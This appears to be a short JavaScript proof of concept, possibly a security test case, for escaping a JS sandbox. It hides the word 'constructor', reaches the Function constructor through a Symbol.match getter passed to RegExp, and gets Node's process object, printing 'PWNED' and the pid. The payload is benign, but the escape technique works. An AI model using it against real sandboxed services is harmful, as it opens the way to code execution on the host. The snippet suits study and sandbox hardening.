'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
const r = /x/;
r[w]({ get [Symbol.match]() { got = fn[w]; return true; }, source: 'x', flags: '', constructor: 1 });
console.log('PWNED', got('return process')().pid);
